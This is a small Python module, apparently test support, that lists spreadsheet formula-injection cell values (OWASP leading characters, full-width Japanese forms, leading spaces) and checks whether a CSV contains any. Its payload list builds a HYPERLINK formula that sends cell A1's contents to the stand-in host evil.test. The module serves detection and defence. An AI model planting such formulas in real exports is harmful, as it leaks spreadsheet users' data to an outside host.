"""Cell values a spreadsheet would run as a formula, and a check that a CSV holds none."""

from __future__ import annotations

import csv
import io

# OWASP's leading characters, LF, the full-width forms Excel in Japanese also evaluates,
# and the same behind leading half- and full-width spaces.
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", "\u3000＋"]
PAYLOADS = [f'{start}HYPERLINK("http://evil.test/?"&A1,"x")' for start in FORMULA_STARTS]
DANGEROUS = tuple("=+-@\t\r\n＝＋－＠")


def cells(data: bytes) -> list[list[str]]:
    """Return the rows of a UTF-8 (BOM) CSV file as Python's csv module reads them."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def formula_cells(rows: list[list[str]]) -> list[str]:
    """Return the cells a spreadsheet would evaluate: a formula start after any blanks."""
    return [cell for row in rows for cell in row if cell.lstrip(" \u3000").startswith(DANGEROUS)]
